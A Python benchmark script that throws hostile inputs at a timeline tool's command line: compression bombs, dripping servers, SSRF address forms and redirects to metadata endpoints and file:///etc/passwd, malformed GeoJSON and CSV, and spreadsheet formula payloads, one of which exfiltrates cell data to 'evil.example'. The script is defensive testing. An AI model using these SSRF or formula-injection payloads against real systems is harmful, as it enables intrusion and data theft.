#!/usr/bin/env python3
"""Hostile inputs and servers, replayed: every cap holds, every user error is one line and exit 2
with the store unchanged, any date renders (issue 18).

    python benchmarks/hostile.py [--fuzz 10000] [--big-mb 18.9] [--quick]

Runs the real command line (``python -m timeline``) as a user would, against local hostile
servers (tests/hostile.py: compression bombs, bytes that drip, redirects to forbidden
addresses), hostile files (lone surrogates, file names that are not UTF-8, malformed
GeoJSON and CSV, huge integers, deep nesting), the largest accepted article, a 2 MB zip of
40 of them, ``kill -9`` of ``--workers 2``, and the page (Streamlit's AppTest) with dates
from 0001 to 9999 and hand-edited links; then the 10,000-input fuzz run
(benchmarks/fuzz_ingest.py). Address forms and redirect tricks are checked in this process
with every socket connection recorded. Each command's peak memory is its own (``wait4``).

Prints, at the end: inputs tried, crashes (tracebacks or an exit code other than 0 and 2)
0, store changes on refused inputs 0, the peak memory of the worst input, the longest time
to give up on a hostile server, and the largest article's time and peak memory.
``--quick`` leaves out the 45-second servers and the largest article (a 1.9 MB one instead).
"""
from __future__ import annotations

import argparse
import datetime as dt
import hashlib
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from tests.hostile import (  # noqa: E402
    ScriptedServer,
    drip_body,
    drip_headers,
    gzip_of_zeros,
    send_body,
    spreadsheet_cells,
)

TIME = "/usr/bin/time"  # GNU time: each command's own peak memory
STORY = "Police arrested 14 people in Nairobi on Tuesday.\nProtesters marched in Lagos on Monday."
SENTENCE = "Spanish troops attacked the city of Naples on Monday, officials said. "


@dataclass
class Outcome:
    section: str
    name: str
    ok: bool  # behaved as the issue asks
    crash: bool  # a traceback, or an exit code other than 0 and 2
    changed: bool  # a refused input changed the store
    seconds: float
    peak_mb: float | None
    note: str = ""


class Bench:
    def __init__(self, folder: Path, env: dict[str, str]) -> None:
        self.folder = folder
        self.env = env
        self.outcomes: list[Outcome] = []
        self.store = folder / "store.sqlite"

    def record(self, outcome: Outcome) -> Outcome:
        self.outcomes.append(outcome)
        mark = "ok " if outcome.ok and not outcome.crash and not outcome.changed else "BAD"
        peak = f"{outcome.peak_mb:6.0f} MB" if outcome.peak_mb is not None else "        "
        print(f"  {mark} {outcome.section:10} {outcome.name[:52]:52} {outcome.seconds:6.1f} s {peak}  "
              f"{outcome.note[:90]}", flush=True)
        return outcome

    def run(self, args: list[str], *, timeout: float = 900, env: dict[str, str] | None = None,
            cwd: Path | None = None) -> tuple[int, str, float, float]:
        """(exit code, stderr, seconds, peak MB) of ``python -m timeline ARGS``.

        The peak is the command's own, as GNU time reports it: a child's maximum resident
        size starts from its parent's at the fork, and this process may have been large."""
        with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err, \
                tempfile.NamedTemporaryFile("r") as peak:
            started = time.monotonic()
            process = subprocess.Popen([TIME, "-f", "%M", "-o", peak.name, sys.executable, "-m", "timeline", *args],
                                       stdout=out, stderr=err, cwd=cwd or self.folder, env=env or self.env)
            try:
                code = process.wait(timeout=timeout)
            except subprocess.TimeoutExpired:
                process.kill()
                code = process.wait()
            seconds = time.monotonic() - started
            err.seek(0)
            kilobytes = (peak.read().strip().splitlines() or ["0"])[-1]
            return code, err.read().decode("utf-8", "replace"), seconds, int(kilobytes) / 1024

    def refused(self, section: str, name: str, args: list[str], *, words: str = "", store: Path | None = None,
                expect: int = 2, lines: int | None = 1, **options) -> Outcome:
        """Run a command that must end with ``expect`` (2: one line on stderr, the store as it was)."""
        store = store or self.store
        before = snapshot(store)
        code, stderr, seconds, peak = self.run(args, **options)
        crash = "Traceback" in stderr or code not in (0, 2)
        text = stderr.strip().splitlines()
        ok = code == expect and words in stderr and (lines is None or len(text) == lines)
        changed = expect == 2 and snapshot(store) != before
        return self.record(Outcome(section, name, ok, crash, changed, seconds, peak,
                                   (text[-1] if text else f"exit {code}")))

    def check(self, section: str, name: str, probe: Callable[[], str]) -> Outcome:
        """An in-process check: ``probe`` returns a note, raises AssertionError when the
        behaviour is wrong, anything else is a crash."""
        started = time.monotonic()
        try:
            note, ok, crash = probe(), True, False
        except AssertionError as exc:
            note, ok, crash = f"wrong: {exc}", False, False
        except Exception as exc:  # what this benchmark looks for: recorded, then on to the next
            note, ok, crash = f"crash: {type(exc).__name__}: {exc}", False, True
        return self.record(Outcome(section, name, ok, crash, False, time.monotonic() - started, None, note))


def snapshot(store: Path) -> str:
    """The store's content (articles and events), as a digest; '' when there is none."""
    if not store.exists():
        return ""
    connection = sqlite3.connect(store)
    try:
        rows = connection.execute("SELECT id, text FROM articles ORDER BY id").fetchall() + \
            connection.execute("SELECT id, data FROM events ORDER BY id").fetchall()
    finally:
        connection.close()
    return hashlib.sha256(json.dumps(rows).encode()).hexdigest()


# -- the sections ------------------------------------------------------------------------

def servers(bench: Bench, quick: bool) -> None:
    """#18.1, #18.2: compression bombs and dripping servers, through the command line."""
    bombs = [("gzip, gzip: 4 GiB of zeros in 7 kB", gzip_of_zeros(4 << 30, layers=2), "gzip, gzip"),
             ("gzip, gzip, gzip", gzip_of_zeros(64 << 20, layers=3), "gzip, gzip, gzip"),
             ("one gzip layer: 2 GiB of zeros", gzip_of_zeros(2 << 30), "gzip"),
             ("deflate: 1 GiB of zeros", None, "deflate"), ("br (not offered)", b"\x00" * 100, "br")]
    for name, body, encoding in bombs:
        if body is None:
            import zlib

            packer = zlib.compressobj(9)
            body = b"".join(packer.compress(bytes(1 << 20)) for _ in range(1024)) + packer.flush()
        server = ScriptedServer(send_body(body, {"Content-Encoding": encoding}))
        try:
            bench.refused("servers", name, ["extract", server.url("/bomb.html"), "--allow-host", "127.0.0.1",
                                            "--db", str(bench.store), "--quiet"])
        finally:
            server.close()
    if quick:
        return
    slow = [("status line, then a header byte a second", drip_headers(1.0)),
            ("status line, then a header byte every 10 s", drip_headers(10.0)),
            ("headers, then a body byte every 10 s", drip_body(10.0)),
            ("headers, then a body byte every 14 s", drip_body(14.0)),
            ("status line, then nothing for an hour", drip_headers(3600.0))]
    started = [ScriptedServer(script) for _, script in slow]
    results: dict[int, Outcome] = {}

    def one(index: int) -> None:
        results[index] = bench.refused("servers", slow[index][0], [
            "extract", started[index].url("/slow.html"), "--allow-host", "127.0.0.1", "--db", str(bench.store),
            "--quiet"], words="gave up after 45 s")

    threads = [threading.Thread(target=one, args=(i,)) for i in range(len(slow))]  # all at once: 45 s, not 4 min
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for server in started:
        server.close()


ADDRESSES = [
    "http://127.0.0.1/", "http://127.1/", "http://127.0.1/", "http://0x7f.1/", "http://0x7f000001/",
    "http://2130706433/", "http://017700000001/", "http://0177.0.0.1/", "http://localhost/", "http://localhost./",
    "http://LOCALHOST/", "http://[::1]/", "http://[::]/", "http://[0:0:0:0:0:0:0:1]/", "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:7f00:1]/", "http://[::ffff:169.254.169.254]/", "http://[::7f00:1]/", "http://[2002:7f00:1::]/",
    "http://[2002:a9fe:a9fe::]/", "http://[2002:0a00:0001::1]/", "http://[64:ff9b::7f00:1]/",
    "http://[64:ff9b::a9fe:a9fe]/", "http://[64:ff9b:1::a00:1]/", "http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/",
    "http://[fe80::1]/", "http://[fc00::1]/", "http://[fd00:ec2::254]/", "http://169.254.169.254/latest/meta-data/",
    "http://169.254.170.2/", "http://100.100.100.200/", "http://192.0.0.192/", "http://metadata.google.internal/",
    "http://metadata/", "http://instance-data/", "http://10.0.0.1/", "http://172.16.0.1/", "http://192.168.1.1/",
    "http://100.64.0.1/", "http://0.0.0.0/", "http://0/", "http://224.0.0.1/", "http://255.255.255.255/",
    "http://198.18.0.1/", "http://192.0.2.1/", "http://240.0.0.1/", "http://user:pw@example.org/",
    "http://example.org@127.0.0.1/", "http://127.0.0.1#@example.org/", "ftp://example.org/", "file:///etc/passwd",
    "gopher://127.0.0.1:70/", "dict://127.0.0.1:11211/", "http://127.0.0.1:22/", "https://127.0.0.1:443/",
    "http://[::1]:8080/", "http://0177.1/", "http://127.000.000.001/", "http://%31%32%37.0.0.1/",
]
REDIRECTS = [
    "http://127.0.0.2/", "http://[::1]/", "http://169.254.169.254/latest", "http://localhost/", "//127.0.0.2/x",
    "http://0x7f.2/", "http://10.0.0.1/", "http://2130706434/", "http://[::ffff:169.254.169.254]/",
    "file:///etc/passwd", "gopher://127.0.0.2/", "http://[2002:a9fe:a9fe::]/", "http://user:pw@127.0.0.2/",
    "http:/\\127.0.0.2/", "  http://127.0.0.2/", "http://127.0.0.2:80/", "http://[64:ff9b::7f00:2]/",
    "http://metadata.google.internal/", "/loop", "http://[::]/",
]


def addresses(bench: Bench) -> None:
    """SSRF: address forms and redirect tricks; no connection may go anywhere but the
    allowed test server."""
    from timeline.sources.fetch import FetchError, fetch

    connections: list[object] = []
    real_connect = socket.socket.connect

    def recording(sock, address):
        connections.append(address)
        return real_connect(sock, address)

    socket.socket.connect = recording  # type: ignore[method-assign]
    try:
        for url in ADDRESSES:
            def probe(url: str = url) -> str:
                del connections[:]
                try:
                    fetch(url, timeout=5, retries=0)
                except FetchError as exc:
                    assert not connections, f"connected to {connections}"
                    return str(exc)
                raise AssertionError("fetched")
            bench.check("addresses", url, probe)
        for location in REDIRECTS:
            redirect = f"HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            server = ScriptedServer(lambda connection, reply=redirect.encode(): connection.sendall(reply))
            def probe(url: str = server.url("/loop")) -> str:
                del connections[:]
                try:
                    fetch(url, allow=["127.0.0.1"], timeout=5, retries=0)
                except FetchError as exc:  # only the trusted address (any port) may be connected to
                    elsewhere = [c for c in connections if c[0] != "127.0.0.1"]
                    assert not elsewhere, f"connected to {elsewhere}"
                    return str(exc)
                raise AssertionError("fetched")
            try:
                bench.check("redirects", f"302 to {location!r}", probe)
            finally:
                server.close()
    finally:
        socket.socket.connect = real_connect  # type: ignore[method-assign]


def articles(bench: Bench, big_mb: float) -> None:
    """#18.3: the largest accepted article (one slice at a time), a zip of 40 of them."""
    text = SENTENCE * int(big_mb * 1_000_000 / len(SENTENCE))
    big = bench.folder / "big.txt"
    big.write_text(text, encoding="utf-8")
    db = bench.folder / "big.sqlite"
    code, stderr, seconds, peak = bench.run(["extract", str(big), "--published", "2025-07-14", "--db", str(db),
                                             "--quiet"], timeout=7200, env=bench.real_env)  # type: ignore[attr-defined]
    events = sqlite3.connect(db).execute("SELECT COUNT(*) FROM events").fetchone()[0] if db.exists() else 0
    bench.big = (len(text) / 1e6, seconds, peak, events)  # type: ignore[attr-defined]
    bench.record(Outcome("articles", f"{len(text) / 1e6:.1f} MB article, extracted", code == 0,
                         "Traceback" in stderr or code not in (0, 2), False, seconds, peak,
                         stderr.strip().splitlines()[-1] if stderr.strip() else ""))
    archive = bench.folder / "forty.zip"
    line = (json.dumps({"text": SENTENCE * int(18_900_000 / len(SENTENCE)), "published": "2025-07-14"}) + "\n"
            ).encode()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packed, packed.open("forty.jsonl", "w") as member:
        for _ in range(40):
            member.write(line)
    del line
    bench.refused("articles", f"{archive.stat().st_size / 1e6:.1f} MB zip of 40 x 18.9 MB lines",
                  ["extract", str(archive), "--db", str(bench.store), "--quiet"], words="several runs")
    bench.refused("articles", "the same zip, --skip-invalid",
                  ["extract", str(archive), "--db", str(bench.store), "--quiet", "--skip-invalid"], words="several runs")


def files(bench: Bench) -> None:
    """#18.4, #18.7, #18.11: inputs that pass a first look, through extract and import."""
    folder = bench.folder
    good = json.dumps({"text": STORY, "published": "2025-07-10", "title": "ok"})
    lines = {
        "title with a lone surrogate": '{"text": "Protesters marched in Lagos.", "published": "2025-07-10", "title": "t\\udfff"}',
        "URL with a lone surrogate": '{"text": "Protesters marched.", "published": "2025-07-10", "url": "http://x/\\ud800"}',
        "text with \\ud800": '{"text": "Protesters \\ud800 marched in Lagos.", "published": "2025-07-10"}',
        "a 5,000-digit integer": '{"text": "Protesters marched.", "n": ' + "5" * 5000 + "}",
        "arrays nested 100,000 deep": "[" * 100_000 + "]" * 100_000,
    }
    for name, second in lines.items():
        path = folder / "b.jsonl"
        path.write_text(good + "\n" + second + "\n", encoding="utf-8")
        bench.refused("files", f"jsonl: {name}", ["extract", str(path), "--db", str(bench.store), "--quiet"],
                      words="b.jsonl:2")
        bench.refused("files", f"jsonl: {name}, --skip-invalid",
                      ["extract", str(path), "--db", str(folder / "skip.sqlite"), "--quiet", "--skip-invalid"],
                      expect=0, lines=2, words="skipped", store=folder / "skip.sqlite")
    named = folder / "latin1"
    named.mkdir(exist_ok=True)
    (named / "a_first.txt").write_text(STORY, encoding="utf-8")
    Path(os.fsdecode(bytes(named) + b"/b_caf\xe9.txt")).write_text(STORY + "\nRivers rose in Porto Alegre.")
    bench.refused("files", "a folder with a Latin-1 file name", ["extract", str(named), "--published", "2025-07-10",
                  "--db", str(folder / "named.sqlite"), "--quiet"], expect=0, words="2 new of 2",
                  store=folder / "named.sqlite")
    point = {"type": "Point", "coordinates": [30.5, 50.4]}

    def collection(*features: dict) -> str:
        return json.dumps({"type": "FeatureCollection", "features": list(features)})

    def feature(geometry: object = point, **properties: object) -> dict:
        return {"type": "Feature", "geometry": geometry, "properties": properties}

    (folder / "good.geojson").write_text(collection(feature(start="2025-07-01"), feature(start="2025-07-02")))
    imports = {
        "country_code a list": collection(feature(country_code=["UA", "RU"])),
        "properties [1,2]": collection({"type": "Feature", "geometry": None, "properties": [1, 2]}),
        "properties \"ab\"": collection({"type": "Feature", "geometry": None, "properties": "ab"}),
        "coordinates 5": collection(feature({"type": "Point", "coordinates": 5})),
        "coordinates {a:1}": collection(feature({"type": "Point", "coordinates": {"a": 1}})),
        "coordinates [x,10]": collection(feature({"type": "Point", "coordinates": ["x", 10]})),
        "coordinates [Infinity,10]": collection(feature({"type": "Point", "coordinates": [1, 10]})).replace(
            "[1, 10]", "[Infinity, 10]"),
        "geometry Banana": collection(feature({"type": "Banana", "coordinates": [1, 2]})),
        "empty GeometryCollection": collection(feature({"type": "GeometryCollection", "geometries": []})),
        "polygon with NaN": collection(feature({"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [1, 0], [0, 0]]]})
                                       ).replace("[1, 1]", "[NaN, 1]"),
        "start 0000": collection(feature(start="0000")),
        "start 2025-13": collection(feature(start="2025-13")),
        "end 9999-12 (valid)": collection(feature(start="9999-12")),
        "an integer of 4,400 digits": collection(feature(n=1)).replace('"n": 1', '"n": ' + "7" * 4400),
        "arrays nested 100,000 deep": "[" * 100_000 + "]" * 100_000,
        "date_text an object": collection(feature(date_text={"from": "spring"})),
        "place_name with \\udfff": collection(feature(place_name="Kyiv")).replace("Kyiv", "Kyiv\\udfff"),
    }
    for name, text in imports.items():
        path = folder / "bad.geojson"
        path.write_text(text, encoding="utf-8")
        valid = name.endswith("(valid)")
        db = folder / ("valid.sqlite" if valid else "store.sqlite")
        bench.refused("imports", f"good.geojson + {name}", ["import", str(folder / "good.geojson"), str(path),
                      "--db", str(db)], expect=0 if valid else 2, lines=None if valid else 1, store=db)
    csvs = {"a field of 140,000 characters": "event_date,latitude,longitude,notes\n2025-07-01,1,2," + "x" * 140_000,
            "event_date 0000": "event_date,latitude,longitude\n0000,1,2", "event_date 2025-13":
            "event_date,latitude,longitude\n2025-13,1,2"}
    for name, text in csvs.items():
        path = folder / "bad.csv"
        path.write_text(text + "\n", encoding="utf-8")
        bench.refused("imports", f"csv: {name}", ["import", str(path), "--db", str(bench.store)])
    (folder / "a.txt").write_text(STORY, encoding="utf-8")
    bench.refused("files", "--published '2025-07-14 lol'", ["extract", str(folder / "a.txt"), "--published",
                  "2025-07-14 lol", "--db", str(bench.store)], words="not a time of day")
    utf8 = folder / "one-bad-byte.txt"
    utf8.write_bytes(("Київ: drones struck Kyiv on Tuesday. " * 20).encode() + b"\xff")
    bench.refused("files", "UTF-8 with one bad byte", ["dates", str(utf8), "--published", "2025-07-14"], expect=0,
                  lines=None, words="1 byte(s) are not valid UTF-8")


def exports(bench: Bench) -> None:
    """#18.6, #18.10: CSV cells a spreadsheet would run; odd values in an older store."""
    from tests.conftest import fill_store, make_event

    odd = fill_store(bench.folder / "odd.sqlite", [
        make_event("-evil", sentence='=HYPERLINK("http://evil.example/?"&A1,"Click")',
                   source_title="=cmd|' /C calc'!A0", place_name="@SUM(1+9)", lat=-1.2864, lon=-36.8),
        make_event('x"><img src=y>')])
    # Values an import could store before imports were normalised, written into the record
    # as such a store holds it (the store itself now refuses them).
    connection = sqlite3.connect(odd)
    (data,) = connection.execute("SELECT data FROM events WHERE id = ?", ('x"><img src=y>',)).fetchone()
    record = {**json.loads(data), "date_text": {"from": "spring"}, "place_name": "<b>Kyiv</b>\x00",
              "sentence": "Nul\x00 here", "geonameid": "703448", "confidence": "high"}
    with connection:
        connection.execute("UPDATE events SET data = ? WHERE id = ?", (json.dumps(record), 'x"><img src=y>'))
    connection.close()
    for suffix in (".csv", ".geojson", ".parquet", ".kml", ".timelinejs.json", ".html"):
        out = bench.folder / f"odd{suffix}"
        outcome = bench.refused("exports", f"odd values to {suffix}", ["export", "--db", str(odd), "-o", str(out)],
                                expect=0, store=odd)
        if suffix == ".csv" and outcome.ok:
            def no_formulas(path: Path = out) -> str:
                cells = [c for row in spreadsheet_cells(path.read_bytes()) for c in row]
                formulas = [c for c in cells if isinstance(c, tuple)]
                assert not formulas, formulas
                assert -1.2864 in cells, "latitude not a number"
                return f"{len(cells)} cells, none a formula, latitudes numbers"
            bench.check("exports", "CSV opened as a spreadsheet", no_formulas)
        if suffix == ".kml" and outcome.ok:
            import xml.etree.ElementTree as ET

            bench.check("exports", "KML is well-formed XML", lambda path=out: f"{len(ET.parse(path).getroot())} root")


def page(bench: Bench) -> None:
    """#18.5, #18.9: the page with far dates and hand-edited links (AppTest)."""
    os.environ.update(TIMELINE_DEMO="0", TIMELINE_FIRST_RUN="full")
    from streamlit.testing.v1 import AppTest

    from tests.conftest import fill_store, make_event

    def day(y: int, m: int = 1, d: int = 1) -> dt.date:
        return dt.date(y, m, d)

    stores = {
        "an article on 1495": [make_event("old", date_start=day(1495, 3, 1), date_end=day(1495, 3, 1))],
        "imports dated 1600, 2300, 0001-01-01": [make_event("a", date_start=day(1600), date_end=day(1600, 12, 31)),
                                                 make_event("b", date_start=day(2300), date_end=day(2300)),
                                                 make_event("c", date_start=day(1), date_end=day(1))],
        "0001-01-01 to 9999-12-31": [make_event("s", date_start=day(1), date_end=dt.date.max)],
    }
    for name, events in stores.items():
        path = fill_store(bench.folder / f"page-{len(bench.outcomes)}.sqlite", events + [make_event("now")])

        def probe(path: Path = path, ids: list[str] = [e.id for e in events]) -> str:
            os.environ["TIMELINE_DB"] = str(path)
            at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
            at.run()
            for event_id in ids + [None]:
                if event_id:
                    at.session_state["selected_event_id"] = event_id
                    at.run()
                assert not at.exception, at.exception[0].value
            for index in range(len(at.get("download_button"))):
                at.get("download_button")[index].click().run()
                assert not at.exception, at.exception[0].value
            return next(c.value for c in at.caption if " events shown" in c.value)[:40]
        bench.check("page", name, probe)
    path = fill_store(bench.folder / "links.sqlite")
    for query in ({"minconf": "nan"}, {"minconf": "inf"}, {"from": "2025-13-01", "to": "x"}, {"area": "nan,0,1,1"},
                  {"window": "9999-99-99..0"}, {"undated": "maybe", "group": "nope", "type": "banana"}):
        def probe(query: dict = query) -> str:
            os.environ["TIMELINE_DB"] = str(path)
            at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
            at.query_params.update(query)
            at.run()
            assert not at.exception, at.exception[0].value
            assert at.toast, "no notice"
            return f"{len(at.toast)} notice(s): {at.toast[0].value[:60]}"
        bench.check("page", f"link ?{'&'.join(f'{k}={v}' for k, v in query.items())}", probe)


def workers(bench: Bench) -> None:
    """#18.8: kill -9 of extract --workers 2 leaves no process behind."""
    import psutil

    corpus = bench.folder / "workers.jsonl"
    corpus.write_text("".join(json.dumps({"text": f"Report {i}\n\n" + f"Crews worked in district {i}. " * 100,
                                          "published": "2025-07-10"}) + "\n" for i in range(40)))

    def probe() -> str:
        env = {**bench.env, "TIMELINE_FAKE_EXTRACTOR": "fake:2"}
        parent = subprocess.Popen([sys.executable, "-m", "timeline", "extract", str(corpus), "--db",
                                   str(bench.folder / "w.sqlite"), "--quiet", "--workers", "2"], env=env,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 60
        children: list = []
        while time.monotonic() < deadline and len(children) < 3:
            children = psutil.Process(parent.pid).children(recursive=True)
            time.sleep(0.1)
        time.sleep(1)
        os.kill(parent.pid, signal.SIGKILL)
        parent.wait()
        killed = time.monotonic()

        def living() -> list:
            alive = []
            for child in children:
                try:
                    if child.status() != psutil.STATUS_ZOMBIE:
                        alive.append(child)
                except psutil.NoSuchProcess:
                    pass
            return alive
        while living() and time.monotonic() - killed < 10:
            time.sleep(0.1)
        left = living()
        for child in left:
            child.kill()
        assert not left, f"{len(left)} of {len(children)} processes alive 10 s after the kill"
        return f"{len(children)} child processes, all gone {time.monotonic() - killed:.1f} s after the kill"
    bench.check("workers", "kill -9 of extract --workers 2", probe)


def fuzz(bench: Bench, count: int) -> tuple[int, int] | None:
    """The existing fuzz run (benchmarks/fuzz_ingest.py)."""
    if not count:
        return None
    done = subprocess.run([sys.executable, str(ROOT / "benchmarks" / "fuzz_ingest.py"), "--count", str(count)],
                          capture_output=True, text=True, env=bench.env, timeout=4 * 3600)
    first = done.stdout.splitlines()[0] if done.stdout else done.stderr[-300:]
    print(f"  fuzz_ingest.py: {first}", flush=True)
    words = first.split()
    try:
        return int(words[words.index("inputs") + 1]), int(words[words.index("crashes") + 1])
    except (ValueError, IndexError):
        return count, count


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--fuzz", type=int, default=10_000, help="inputs of the fuzz run (0: none)")
    parser.add_argument("--big-mb", type=float, default=18.9, help="the largest article's size in MB")
    parser.add_argument("--quick", action="store_true", help="no 45 s servers; a 1.9 MB article")
    args = parser.parse_args(argv)
    import logging

    logging.disable(logging.WARNING)
    with tempfile.TemporaryDirectory(prefix="hostile-") as name:
        folder = Path(name)
        # The stand-in extractor (one event per line) everywhere but for the largest article:
        # what these inputs test is what is refused and what reaches the store.
        real = {**os.environ, "PYTHONPATH": str(ROOT), "TIMELINE_DB": str(folder / "default.sqlite")}
        env = {**real, "TIMELINE_FAKE_EXTRACTOR": "fake"}
        bench = Bench(folder, env)
        bench.real_env = real  # type: ignore[attr-defined]
        (folder / "seed.txt").write_text(STORY, encoding="utf-8")
        code, stderr, _, _ = bench.run(["extract", str(folder / "seed.txt"), "--published", "2025-07-09",
                                        "--db", str(bench.store), "--quiet"])
        assert code == 0, stderr
        started = time.monotonic()
        print("section    input                                                  time     peak  what it said")
        servers(bench, args.quick)
        addresses(bench)
        files(bench)
        exports(bench)
        page(bench)
        workers(bench)
        articles(bench, 1.9 if args.quick else args.big_mb)
        fuzzed = fuzz(bench, args.fuzz)
        outcomes = bench.outcomes
        crashes = sum(o.crash for o in outcomes)
        changes = sum(o.changed for o in outcomes)
        wrong = [o for o in outcomes if not o.ok]
        worst = max((o for o in outcomes if o.peak_mb is not None), key=lambda o: o.peak_mb)
        slowest = max((o for o in outcomes if o.section == "servers"), key=lambda o: o.seconds)
        size, seconds, peak, events = bench.big  # type: ignore[attr-defined]
        print()
        print(f"inputs tried {len(outcomes)}  crashes (tracebacks) {crashes}  store changes on refused inputs "
              f"{changes}  not as asked {len(wrong)}  ({time.monotonic() - started:.0f} s)")
        print(f"peak memory of the worst input: {worst.peak_mb:.0f} MB ({worst.section}: {worst.name})")
        print(f"longest time to give up on a hostile server: {slowest.seconds:.1f} s ({slowest.name})")
        print(f"largest article: {size:.1f} MB extracted in {seconds:.0f} s, peak {peak:.0f} MB, {events} events")
        if fuzzed:
            print(f"fuzz run: inputs {fuzzed[0]}  crashes {fuzzed[1]}")
        for outcome in wrong:
            print(f"  not as asked: {outcome.section} {outcome.name}: {outcome.note}")
        failed = crashes or changes or wrong or (fuzzed and fuzzed[1])
        return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
